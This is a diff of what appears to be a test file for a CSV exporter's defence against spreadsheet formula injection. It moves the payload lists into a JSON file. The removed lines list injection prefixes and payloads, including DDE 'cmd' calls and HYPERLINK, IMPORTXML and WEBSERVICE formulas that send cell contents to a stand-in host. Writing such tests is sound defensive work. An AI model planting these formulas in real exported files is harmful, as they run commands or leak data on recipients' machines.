@@ -1,24 +1,16 @@
 // Cells that a spreadsheet would run, and what an independent parser reads of the file.
+import { readFileSync } from 'node:fs';
 import { expect, it } from '@jest/globals';
 import { buffer, text } from 'node:stream/consumers';
 import { parse } from 'csv-parse/sync';
 import { type Cell, csv, harmless } from './csv.js';
 
-const STARTS = [
-  ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'],
-  [' =', '  +', '\u00a0-', '\ufeff@', '\u200b=', '\u0000=', '\t=', '\r\n+', '\u3000=', '\u202e@'],
-].flat();
-const BODIES = [
-  ['1+1', "cmd|' /C calc'!A0", 'HYPERLINK("http://a.example/?x="&A1,"Open")', 'SUM(A1:A9)*cmd|x!A1'],
-  [
-    'IMPORTXML(CONCAT("http://a.example/",A1),"//a")',
-    'WEBSERVICE("http://a.example/"&B2)',
-    'DDE("cmd","/C")',
-  ],
-  ['"="&"1"', '1,2";3', '10+20;=cmd', '2\n=1+1', '2\r\n"=1+1"', "'=1+1", '-1', '@SUM(1)', ' 1'],
-].flat();
+const { starts, bodies } = JSON.parse(readFileSync('test/data/csv-injection.json', 'utf8')) as Record<
+  'starts' | 'bodies',
+  string[]
+>;
 /** One in each cell that people can write: a name, a title. */
-const PAYLOADS = STARTS.flatMap((start) => BODIES.map((body) => start + body));
+const PAYLOADS = starts.flatMap((start) => bodies.map((body) => start + body));
 
 async function* once(rows: Cell[][]) {
   yield* rows;
